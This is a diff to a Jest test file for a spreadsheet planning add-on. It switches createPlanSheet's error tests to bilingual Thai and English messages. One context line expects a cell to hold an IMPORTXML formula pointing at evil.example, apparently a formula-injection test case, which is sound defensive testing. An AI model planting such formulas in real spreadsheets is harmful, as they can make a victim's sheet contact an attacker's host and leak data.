@@ -3,7 +3,7 @@
  * computes once staff type their projects in.
  */
 import { DataValidationCriteria } from '../fakes/spreadsheet';
-import { loadAddon, CREATE_REQUEST } from './harness';
+import { loadAddon, CREATE_REQUEST, userError } from './harness';
 
 describe('createPlanSheet', () => {
   test('writes the standard layout that the core reads back as an empty plan', () => {
@@ -124,20 +124,30 @@ describe('createPlanSheet', () => {
     expect(cell.value).toBe('=IMPORTXML("http://evil.example","//a")');
   });
 
-  test('bad requests get a Thai message, and nothing is created', () => {
+  test('bad requests get a message in Thai and English, and nothing is created', () => {
     const a = loadAddon();
-    expect(() => a.call('createPlanSheet', { ...CREATE_REQUEST, fromYear: 'สองพัน' })).toThrow(/ข้อมูลไม่ครบหรือไม่ถูกต้อง/);
-    expect(() => a.call('createPlanSheet', { ...CREATE_REQUEST, fromYear: 2570, toYear: 2566 })).toThrow(
-      /ปีสิ้นสุดต้องไม่น้อยกว่าปีเริ่มต้น/,
-    );
-    expect(() => a.call('createPlanSheet', { ...CREATE_REQUEST, quarterYear: 2575 })).toThrow(/ปีของไตรมาส/);
+    expect(userError(() => a.call('createPlanSheet', { ...CREATE_REQUEST, fromYear: 'สองพัน' }))).toEqual({
+      th: expect.stringMatching(/^ข้อมูลไม่ครบหรือไม่ถูกต้อง: fromYear/),
+      en: expect.stringMatching(/^Missing or invalid data: fromYear/),
+    });
+    expect(userError(() => a.call('createPlanSheet', { ...CREATE_REQUEST, fromYear: 2570, toYear: 2566 }))).toEqual({
+      th: 'ข้อมูลไม่ถูกต้อง: ปีสิ้นสุดต้องไม่น้อยกว่าปีเริ่มต้น',
+      en: 'Invalid data: the last year must not be before the first',
+    });
+    expect(userError(() => a.call('createPlanSheet', { ...CREATE_REQUEST, quarterYear: 2575 }))).toEqual({
+      th: 'ปีของไตรมาส (2575) ต้องอยู่ในช่วงปีของแผน 2566–2570',
+      en: "The year of the quarter ticks (2575) must be within the plan's years 2566–2570",
+    });
     expect(a.spreadsheet._sheets.map((s) => s._name)).toEqual(['Sheet1']);
   });
 
   test('another editor holding the lock: a clear message, no half-made sheet', () => {
     const a = loadAddon();
     a.lock._busy = true;
-    expect(() => a.call('createPlanSheet', CREATE_REQUEST)).toThrow(/มีผู้ใช้อื่นกำลังแก้ไข/);
+    expect(userError(() => a.call('createPlanSheet', CREATE_REQUEST))).toEqual({
+      th: 'มีผู้ใช้อื่นกำลังแก้ไขแผ่นงานด้วยใสสะอาดอยู่ กรุณาลองใหม่อีกครั้ง',
+      en: 'Someone else is changing the spreadsheet with SaiSaat right now; please try again in a moment',
+    });
     expect(a.spreadsheet._sheets).toHaveLength(1);
   });
 });
